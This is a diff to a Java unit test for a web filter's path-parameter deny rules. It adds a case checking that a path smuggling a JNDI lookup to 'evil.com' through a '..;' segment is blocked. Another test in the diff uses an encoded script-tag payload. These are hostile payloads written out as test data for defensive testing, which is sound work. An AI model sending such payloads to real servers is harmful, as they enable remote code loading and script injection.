@@ -42,6 +42,15 @@ class PathParameterDenyRulesTest extends FilterContainerTest {
     }
 
     @Test
+    void blocksJndiLookupWhoseSlashesSplitItAcrossTheDroppedSegment() {
+        JsonNode event = refusedAndLogged("/t/..;${jndi:ldap://evil.com/a}/y");
+
+        if (event != null) {
+            assertThat(event.get("rule.category").asText()).isEqualTo("JAVA");
+        }
+    }
+
+    @Test
     void blocksScriptInTheParametersOfADotSegment() {
         JsonNode event = refusedAndLogged("/t/.;%3Cscript%3Ealert(1)%3C/script%3E/y");
 
